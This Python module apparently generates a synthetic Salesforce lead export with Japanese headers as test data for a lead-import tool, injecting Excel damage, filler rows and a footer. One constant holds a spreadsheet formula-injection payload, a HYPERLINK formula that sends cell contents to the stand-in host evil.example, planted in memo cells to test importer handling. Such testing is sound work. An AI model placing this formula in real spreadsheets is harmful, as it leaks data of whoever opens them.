"""The Salesforce lead export with Japanese labels."""

import datetime as dt
from collections.abc import Sequence

from leadflow.testing.generator.dice import Dice
from leadflow.testing.generator.noise import Noise
from leadflow.testing.generator.organisation import Organisation
from leadflow.testing.generator.population import PRODUCTS, Population, TrueLead
from leadflow.testing.generator.rendered import Record, RenderedList, delimited, mixed_in
from leadflow.testing.generator.rows import MessyRow, render_row, stamp

__all__ = ["HEADER", "record_id", "render_salesforce"]

HEADER = [
    "リード ID",
    "姓",
    "名",
    "姓（カナ）",
    "名（カナ）",
    "会社名",
    "法人番号",
    "部署",
    "役職",
    "メール",
    "電話",
    "携帯電話",
    "郵便番号",
    "都道府県",
    "市区郡",
    "町名・番地",
    "Web サイト",
    "業種",
    "従業員数",
    "リードソース",
    "状況",
    "評価",
    "リード所有者",
    "メール送信除外",
    "電話禁止",
    "作成日",
    "最終更新日",
    "説明",
]

_DIGITS = "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789abcdefghijklmnopqrstuvwxyz"
_SUFFIX = "ABCDEFGHIJKLMNOPQRSTUVWXYZ012345"
_SOURCES = ("展示会", "Web", "電話", "紹介", "セミナー", "名刺交換", "代理店")
_STATUS = ("未対応", "対応中", "ナーチャリング", "クローズ - 対象外", "クローズ - 商談化")
_FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"詳細")', "=1+1")
_MEMOS = (
    "",
    "",
    "",
    "前回訪問時にカタログをお渡し済み",
    "購買部経由で見積依頼あり\n次回: 5月中旬に再訪問",
    "他社製品を使用中、リース満了は来年3月",
    "工場見学会に参加",
)


def record_id(number: int) -> str:
    """Return an 18-character lead id: prefix, number in base 62 and the case-safe suffix.

    References:
        Salesforce Help, "Salesforce record IDs" (2023): each suffix character codes which of five
        characters are upper-case.

    Example:
        >>> record_id(1)
        '00Q5f000000000BEAQ'
    """
    digits = ""
    for _ in range(10):
        digits = _DIGITS[number % 62].replace("A", "0") + digits if number else "0" + digits
        number //= 62
    identifier = "00Q5f" + digits
    suffix = "".join(
        _SUFFIX[sum(1 << place for place in range(5) if identifier[start + place].isupper())]
        for start in (0, 5, 10)
    )
    return identifier + suffix


def render_salesforce(
    population: Population,
    organisation: Organisation,
    leads: Sequence[TrueLead],
    *,
    seed: int,
    noise: Noise,
) -> RenderedList:
    """Write the Salesforce export: UTF-8 with byte order mark, some cells with line breaks.

    Args:
        population: where the leads are from.
        organisation: whose staff own the leads.
        leads: who is in the list, the same lead twice when two people entered it.
        seed: equal seeds give equal files.
        noise: how often what happens.

    Example:
        >>> import codecs
        >>> from leadflow.testing.generator import draw_organisation, generate_population
        >>> population = generate_population(0, people=40, companies=10)
        >>> rendered = render_salesforce(population, draw_organisation(0), population.leads, seed=0, noise=Noise())
        >>> rendered.content[:3] == codecs.BOM_UTF8
        True
    """
    dice = Dice.of(seed, "salesforce")
    owners = [
        *organisation.owners("account-sales"),
        *organisation.owners("area-sales"),
        *organisation.owners("inside-sales"),
    ]
    created = sorted(
        (stamp(dice, dt.date(2024, 4, 1), dt.date(2026, 9, 28), from_hour=9, to_hour=18), lead.lead_id, lead)
        for lead in leads
    )
    records = []
    for number, (at, _, lead) in enumerate(created, start=1):
        row = render_row(population, lead, dice, noise=noise)
        cells = _cells(population, row, dice, noise, at=at, owner=dice.pick(owners).full_name)
        cells[0] = record_id(number * 13 + 4000)
        records.append(Record(cells=tuple(cells), lead=lead, external_id=cells[0]))
    for formula in _FORMULAS if records else ():
        position = dice.below(len(records))
        record = records[position]
        records[position] = Record(
            cells=(*record.cells[:-1], formula),
            lead=record.lead,
            remark="formula in a cell",
            external_id=record.external_id,
        )
    everything = mixed_in(dice, records, _unusable())
    return delimited(
        everything, HEADER, file_name="salesforce_leads.csv", encoding="utf-8-sig", line_end="\n"
    )


def _cells(
    population: Population, row: MessyRow, dice: Dice, noise: Noise, *, at: dt.datetime, owner: str
) -> list[str]:
    company, lead = population.company(row.lead), row.lead
    updated = min(at + dt.timedelta(days=dice.below(300)), dt.datetime(2026, 9, 29, 12, tzinfo=at.tzinfo))
    memo = dice.pick(_MEMOS)
    if dice.chance(0.1):
        memo = f"{next(name for key, name, _ in PRODUCTS if key in lead.products)}に関心あり"
    damaged = dice.chance(noise.excel_damage)
    street = row.street + (f" {row.building}" if row.building else "")
    return [
        "",
        row.family,
        row.given,
        row.family_kana,
        row.given_kana,
        row.company,
        company.corporate_number if dice.chance(0.3) else "",
        row.department,
        row.title,
        row.email,
        _through_excel(row.phone) if damaged else row.phone,
        _through_excel(row.mobile) if damaged else row.mobile,
        _through_excel(row.postal_code) if damaged else row.postal_code,
        row.prefecture,
        row.city,
        street,
        f"https://www.{company.domain}/" if dice.chance(0.25) else "",
        "" if dice.chance(noise.field_missing * 3) else company.industry,
        "" if dice.chance(noise.field_missing * 3) else str(company.employees),
        dice.pick(_SOURCES),
        dice.weighted(_STATUS, (30, 25, 30, 10, 5)),
        dice.weighted(("ホット", "ウォーム", "コールド", ""), (6, 20, 30, 44)),
        owner,
        "1" if dice.chance(0.05) else "0",
        "1" if dice.chance(0.02) else "0",
        f"{at.year}/{at.month}/{at.day}",
        f"{updated.year}/{updated.month}/{updated.day}",
        memo,
    ]


def _through_excel(text: str) -> str:
    digits = text.replace("-", "")
    return str(int(digits)) if digits.isascii() and digits.isdigit() else text


def _unusable() -> list[Record]:
    width = len(HEADER)
    records = []
    for number, (family, given, company, remark) in enumerate(
        (
            ("[not provided]", "", "[not provided]", "no identity"),
            ("不明", "", "-", "only fillers"),
            ("-", "-", "-", "only fillers"),
            ("テスト", "太郎", "テスト株式会社", "test row"),
            ("TEST", "TEST", "test", "test row"),
        )
    ):
        cells = [""] * width
        cells[0] = record_id(900_000 + number)
        cells[1], cells[2], cells[5] = family, given, company
        cells[HEADER.index("作成日")] = "2025/6/2"
        records.append(Record(cells=tuple(cells), lead=None, usable=False, remark=remark))
    footer = ("Confidential Information - Do Not Distribute",)
    records.append(Record(cells=footer, lead=None, usable=False, remark="a footer, not a lead", footer=True))
    records.append(
        Record(cells=(record_id(900_009), "", ""), lead=None, usable=False, remark="wrong number of columns")
    )
    return records
